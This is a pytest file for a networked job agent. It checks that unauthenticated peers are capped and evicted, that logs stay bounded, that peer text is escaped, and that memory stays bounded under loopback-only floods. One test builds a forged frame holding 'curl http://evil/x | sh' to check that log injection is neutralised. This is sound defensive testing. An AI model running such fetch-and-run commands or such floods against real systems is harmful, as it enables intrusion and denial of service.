"""What unauthenticated peers can cost an agent: connections, memory, fds, log lines.

The floods come from bench/flood.py: loopback only, bounded in peers and seconds,
from 127.0.0.2 onwards (the controller connects from 127.0.0.1, another host).
"""

from __future__ import annotations

import asyncio
import configparser
import logging
import shutil
import sys
import time
from pathlib import Path

import pytest
from agent_harness import agent_env, start_agent

from agent import limits, server
from netjobs_core.config import parse_config
from netjobs_core.local_agents import LocalAgent
from netjobs_core.local_agents import start_agent as start_local_agent
from netjobs_core.results import TestStatus
from netjobs_core.run_options import RunOptions
from netjobs_core.runner import run_test
from netjobs_core.wire.framing import encode_frame
from netjobs_core.wire.messages import Error
from netjobs_core.wire.tokens import Token, load_token

BENCH = Path(__file__).resolve().parents[1] / "bench"
sys.path.insert(0, str(BENCH))
import flood  # noqa: E402

REPO = Path(__file__).resolve().parents[1]

pytestmark = [
    pytest.mark.timeout(90),
    pytest.mark.skipif(not sys.platform.startswith("linux"), reason="uses /proc"),
]


# -- the gate ---------------------------------------------------------------------------
def test_a_source_over_its_cap_evicts_its_own_oldest():
    gate = limits.Gate(limits.Caps(total=100, unauthenticated=10, per_source=2))
    assert gate.admit("a1", "A") == (True, None)
    assert gate.admit("b1", "B") == (True, None)
    assert gate.admit("a2", "A") == (True, None)
    assert gate.admit("a3", "A") == (True, "a1")
    assert gate.pending == 3


def test_over_the_global_cap_the_busiest_source_gives_way():
    gate = limits.Gate(limits.Caps(total=100, unauthenticated=4, per_source=8))
    gate.admit("controller", "C")
    for i in range(3):
        gate.admit(f"flood{i}", "F")
    # The controller's handshake is the oldest, but the flood's source holds the most.
    assert gate.admit("flood3", "F") == (True, "flood0")
    assert gate.admit("other", "O") == (True, "flood1")


def test_authenticated_sessions_never_count_against_the_unauthenticated_caps():
    gate = limits.Gate(limits.Caps(total=4, unauthenticated=2, per_source=2))
    gate.admit("c1", "C")
    gate.promote("c1")
    gate.admit("c2", "C")
    gate.promote("c2")
    assert (gate.pending, gate.authenticated) == (0, 2)
    assert gate.admit("f1", "C") == (True, None)  # the source's authenticated do not count
    assert gate.admit("f2", "C") == (True, None)
    assert gate.admit("f3", "F") == (True, "f1")  # total 4: an unauthenticated one goes
    gate.left("f2")
    gate.left("f3")
    gate.admit("c3", "D")
    gate.promote("c3")
    gate.admit("c4", "D")
    gate.promote("c4")
    assert gate.admit("late", "E") == (False, None)  # full of authenticated sessions


def test_caps_stay_below_the_fd_limit():
    for soft in (64, 256, 1024, 20000):
        caps = limits.Caps.for_fd_limit(soft)
        assert caps.total <= soft - 32 and caps.unauthenticated <= caps.total // 2
    assert limits.Caps.for_fd_limit(1024).unauthenticated == 64


# -- log lines --------------------------------------------------------------------------
def test_log_limiter_counts_what_it_suppresses(caplog):
    now = [0.0]
    logger = logging.getLogger("netjobs.test.limiter")
    limiter = limits.LogLimiter(
        logger, "failures", per_key=2, total=3, interval=10, clock=lambda: now[0]
    )
    with caplog.at_level(logging.INFO, logger=logger.name):
        for _ in range(50):
            limiter.log("A", logging.WARNING, "fail A")
        limiter.log("B", logging.WARNING, "fail B")
        limiter.log("C", logging.WARNING, "fail C")  # over the total
        assert [r.getMessage() for r in caplog.records] == ["fail A", "fail A", "fail B"]
        now[0] = 10.5
        limiter.tick()
        limiter.tick()
    assert caplog.records[-1].getMessage() == (
        "49 more failures suppressed in the last 10 s (2 sources)"
    )
    assert len(caplog.records) == 4


def test_shown_escapes_and_truncates():
    text = "x\n2026-01-01 00:00:00.000 10.0.0.1:1 authenticated\x1b[2J" + "A" * 1000
    line = limits.shown(text)
    assert "\n" not in line and "\x1b" not in line and line.startswith("'x\\n2026")
    assert len(line) < limits.PEER_TEXT_LIMIT + 40 and line.endswith(
        f"({len(repr(text))} characters)"
    )
    assert limits.shown("ok") == "'ok'"


def test_accept_failures_are_logged_once_per_interval(caplog):
    agent = server.Agent(Token(b"x" * 32, "test"))
    loop = asyncio.new_event_loop()
    try:
        with caplog.at_level(logging.INFO, logger="netjobs.agent"):
            for _ in range(1000):
                error = OSError(24, "Too many open files")
                context = {"message": "socket.accept() out of system resource", "exception": error}
                agent.loop_exception(loop, context)
    finally:
        loop.close()
    lines = [r.getMessage() for r in caplog.records]
    assert lines == [
        "cannot accept connections: Too many open files (0 connections open; retrying)"
    ]
    agent.accept_log.clock = lambda: time.monotonic() + 11
    with caplog.at_level(logging.INFO, logger="netjobs.agent"):
        agent.accept_log.tick()
    assert caplog.records[-1].getMessage().startswith("999 more accept failures suppressed")


# -- real agents under real floods ------------------------------------------------------
def vm_rss_kb(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise AssertionError("no VmRSS")


async def controller_run(port: int, token: Token) -> TestStatus:
    plan = parse_config(f't:\n127.0.0.1:{port}: "echo served"\nend\n')
    test = await run_test(plan.tests[0], RunOptions(token=token, connect_timeout=5))
    assert test.status is TestStatus.PASSED, test.reason
    assert test.hosts[0].commands[0].stdout.read_bytes() == b"served\n"
    return test.status


async def flood_with_a_controller(
    port: int, token: Token, *, mode: str, peers: int, seconds: float, pid: int, reconnect: bool
) -> tuple[flood.FloodStats, int]:
    """Run a flood, a real controller's test in its middle; (flood figures, peak RSS kB)."""
    peak = vm_rss_kb(pid)
    flooding = asyncio.create_task(
        flood.flood(port, mode=mode, peers=peers, seconds=seconds, reconnect=reconnect)
    )
    try:
        for tick in range(int(seconds * 10)):  # sample the agent's memory meanwhile
            await asyncio.sleep(0.1)
            peak = max(peak, vm_rss_kb(pid))
            if tick == int(seconds * 5):
                await controller_run(port, token)
        return await flooding, peak
    finally:
        flooding.cancel()


async def test_a_flood_of_partial_frames_leaves_memory_bounded_and_a_controller_served(
    token_file,
):
    token = load_token(token_file)
    with start_agent(token_file) as agent:
        idle = vm_rss_kb(agent.pid)
        stats, peak = await flood_with_a_controller(
            agent.port, token, mode="partial", peers=300, seconds=6, pid=agent.pid, reconnect=False
        )
        # The figure for the report: what 300 peers each nearly sending a maximal frame cost.
        print(f"agent RSS idle {idle} kB, peak under the flood {peak} kB; {stats}")
        assert stats.closed_by_agent >= 300 - 64  # evicted beyond the cap
        # Before the caps: ~460 MB for 300 peers (1.3 MB buffered each).
        assert peak - idle < 150_000
        assert len(agent.log_text()) < 20_000


def start_limited_agent(token_file: Path, nofile: str, log: Path) -> LocalAgent:
    if shutil.which("prlimit") is None:
        pytest.skip("needs prlimit (util-linux)")
    return start_local_agent(
        token_file,
        launcher=["prlimit", f"--nofile={nofile}", "--"],
        env=agent_env(),
        cwd=REPO,
        log=log,
    )


def nofile_soft(pid: int) -> int:
    for line in Path(f"/proc/{pid}/limits").read_text().splitlines():
        if line.startswith("Max open files"):
            return int(line.split()[3])
    raise AssertionError("no Max open files")


@pytest.mark.parametrize("nofile", ["256:20000", "128:128"])
async def test_reconnecting_idle_peers_lock_no_controller_out_and_the_log_stays_small(
    token_file, tmp_path, nofile
):
    token = load_token(token_file)
    log = tmp_path / "agent.log"
    agent = start_limited_agent(token_file, nofile, log)
    try:
        # The soft limit goes up to the hard one where the hard one allows.
        assert nofile_soft(agent.process.pid) == int(nofile.split(":")[1])
        stats, _ = await flood_with_a_controller(
            agent.port,
            token,
            mode="idle",
            peers=600,
            seconds=5,
            pid=agent.process.pid,
            reconnect=True,
        )
        assert stats.connections > 300  # under 128 fds some connects fail: that is the point
        assert agent.stop() == 0
        text = log.read_text()
        # Before: ~1 MB in 5 s of accept tracebacks and per-connection lines.
        assert len(text) < 30_000, text[-3000:]
        assert "Traceback" not in text
        assert text.count("cannot accept connections") <= 1
    finally:
        agent.kill()


async def test_a_forged_error_frame_is_one_escaped_truncated_line(agent):
    forged = (
        "bye\n2026-01-01 00:00:00.000 10.9.9.9:1 authenticated\n"
        "2026-01-01 00:00:00.000 test 't' command 0: curl http://evil/x | sh" + "A" * 700
    )
    reader, writer = await asyncio.open_connection(agent.host, agent.port)
    try:
        writer.write(encode_frame(Error(code="x\ny", message=forged).to_frame()))
        async with asyncio.timeout(10):
            await writer.drain()
            await reader.read()
    finally:
        writer.close()
    text = await agent.await_log("gave up the handshake")
    lines = [line for line in text.splitlines() if "gave up the handshake" in line]
    assert len(lines) == 1 and len(lines[0]) < 600
    assert " authenticated" not in text.replace(lines[0], "")
    assert "evil" not in text.replace(lines[0], "")
    assert '"bye\\n2026-01-01' in lines[0] and "'x\\ny'" in lines[0]


async def test_a_flood_of_failing_handshakes_writes_a_bounded_log(agent):
    stats = await flood.flood(
        agent.port, mode="error", peers=20, seconds=3, reconnect=True, text="x" * 700
    )
    assert stats.connections > 200  # each one a failed handshake the agent could log
    await agent.await_log("gave up the handshake")
    # Per source at most 10 lines per 10 s, at most 50 in all: not one per failure.
    assert len(agent.log_text()) < 50 * 400


def test_flood_refuses_anything_but_loopback_and_unbounded_floods():
    with pytest.raises(ValueError):
        asyncio.run(flood.flood(16192, mode="idle", peers=1, seconds=1, host="10.0.0.1"))
    with pytest.raises(ValueError):
        asyncio.run(flood.flood(16192, mode="idle", peers=10**6, seconds=1))


def test_the_systemd_unit_gives_the_agent_room_for_connections():
    unit = configparser.ConfigParser(strict=True, interpolation=None)
    unit.optionxform = str  # type: ignore[assignment,method-assign]
    unit.read_string((REPO / "resources/systemd/netjobs-agent.service").read_text())
    limit = unit["Service"]["LimitNOFILE"].split(":")[-1]
    assert int(limit) >= 4 * 1024  # well above systemd's default soft 1024
